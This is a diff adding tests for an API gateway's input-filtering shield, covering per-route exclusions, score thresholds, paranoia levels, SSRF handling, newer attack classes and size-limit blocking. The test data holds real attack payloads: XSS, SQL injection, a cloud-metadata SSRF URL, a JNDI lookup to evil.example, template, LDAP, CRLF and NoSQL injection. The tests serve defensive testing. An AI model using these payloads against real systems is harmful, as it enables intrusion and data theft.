@@ -302,6 +302,96 @@ describe("the shield", () => {
   });
 });
 
+describe("the shield's levels, scores, exclusions and reported classes", () => {
+  let gw: TestGateway;
+  let key: string;
+  before(async () => {
+    gw = await startTestGateway({
+      version: 1,
+      routes: [
+        { name: "plain", match: { path: "/plain/**" }, shield: {} },
+        {
+          name: "tuned",
+          match: { path: "/tuned/**" },
+          shield: { paranoia: 2, thresholds: { xss: 10 }, except: ["body.html", { field: "body.items[*].query", checks: ["sqli"] }] },
+        },
+        { name: "fetching", match: { path: "/fetching/**" }, shield: { checks: { ssrf: "block" } } },
+      ],
+    });
+    key = (await tenantWithKey(gw)).key;
+  });
+  after(() => gw.close());
+  const post = async (path: string, body: unknown) => {
+    const response = await fetch(`${gw.url}${path}`, { method: "POST", headers: { authorization: `Bearer ${key}`, "content-type": "application/json" }, body: JSON.stringify(body) });
+    const text = await response.text();
+    return { status: response.status, body: (text.startsWith("{") ? JSON.parse(text) : {}) as Record<string, unknown> };
+  };
+
+  test("an excluded field passes what it is excluded from, and nothing else", async () => {
+    assert.equal((await post("/tuned/x", { html: "<script>alert(1)</script>" })).status, 200, "every class is off for body.html");
+    assert.equal((await post("/tuned/x", { items: [{ query: "' OR '1'='1" }] })).status, 200, "sqli is off for body.items[*].query");
+    const xss = await post("/tuned/x", { items: [{ query: "' OR 1=1 --", note: "<script>alert(1)</script>" }, { query: "<svg onload=alert(1)>" }, { query: "<script>alert(1)</script>" }] });
+    assert.equal(xss.status, 400, "xss in the same field is still read");
+    assert.equal(xss.body.class, "xss");
+    assert.equal((await post("/plain/x", { html: "<script>alert(1)</script>" })).status, 400, "another route has no exclusion");
+  });
+
+  test("a class refuses at its threshold: under it, the finding is logged as below the threshold", async () => {
+    assert.equal((await post("/tuned/x", { a: "<script>alert(1)</script>" })).status, 200);
+    assert.ok(gw.logs.some((line) => line.includes("shield findings (monitor)") && line.includes('"mode":"below threshold"')));
+    assert.equal((await post("/tuned/x", { a: "<script>alert(1)</script>", b: "<img src=x onerror=alert(1)>" })).status, 400, "two findings reach 10");
+  });
+
+  test("paranoia level 2 refuses what level 1 lets through", async () => {
+    assert.equal((await post("/plain/x", { q: "select name from users" })).status, 200);
+    assert.equal((await post("/tuned/x", { q: "select name from users" })).status, 400);
+  });
+
+  test("a URL to an internal host is reported by default, refused where the route says so", async () => {
+    const body = { callback: "http://169.254.169.254/latest/meta-data/" };
+    assert.equal((await post("/plain/x", body)).status, 200);
+    assert.ok(gw.logs.some((line) => line.includes("ssrf-internal-url") && line.includes('"mode":"monitor"')));
+    const refused = await post("/fetching/x", body);
+    assert.equal(refused.status, 400);
+    assert.equal(refused.body.class, "ssrf");
+  });
+
+  test("the newer classes are refused through the gateway as MALICIOUS_INPUT with their class", async () => {
+    for (const [value, cls] of [
+      ["${jndi:ldap://evil.example/a}", "java"],
+      ["{{7*7}}", "ssti"],
+      ["php://filter/resource=index.php", "inclusion"],
+      ["*)(uid=*))(|(uid=*", "ldap"],
+      ["x\r\nSet-Cookie: a=b", "crlf"],
+    ] as const) {
+      const answer = await post("/plain/x", { value });
+      assert.equal(answer.status, 400, value);
+      assert.equal(answer.body.class, cls, value);
+    }
+    const operator = await post("/plain/x", { password: { $ne: null } });
+    assert.equal(operator.status, 400);
+    assert.equal(operator.body.class, "nosql");
+  });
+});
+
+test("oversized and over-limit requests count as violations, like attacks", async () => {
+  const gw = await startTestGateway({
+    version: 1,
+    blocking: { threshold: 3, windowSeconds: 60, blockSeconds: 60 },
+    routes: [{ name: "open", match: { path: "/**" }, authenticate: "none", shield: { maxBodyBytes: 64, maxFieldLength: 10 } }],
+  });
+  try {
+    const post = (body: string) => fetch(`${gw.url}/x`, { method: "POST", headers: { "content-type": "application/json" }, body });
+    assert.equal((await post(JSON.stringify({ a: "x".repeat(100) }))).status, 413);
+    assert.equal((await post(JSON.stringify({ a: "x".repeat(20) }))).status, 422);
+    assert.equal((await post(JSON.stringify({ a: "y".repeat(20) }))).status, 422);
+    const blocked = await fetch(`${gw.url}/x?q=harmless`);
+    assert.equal(((await blocked.json()) as { code: string }).code, "BLOCKED");
+  } finally {
+    await gw.close();
+  }
+});
+
 test("a client that keeps sending attacks is blocked", async () => {
   const gw = await startTestGateway({
     version: 1,
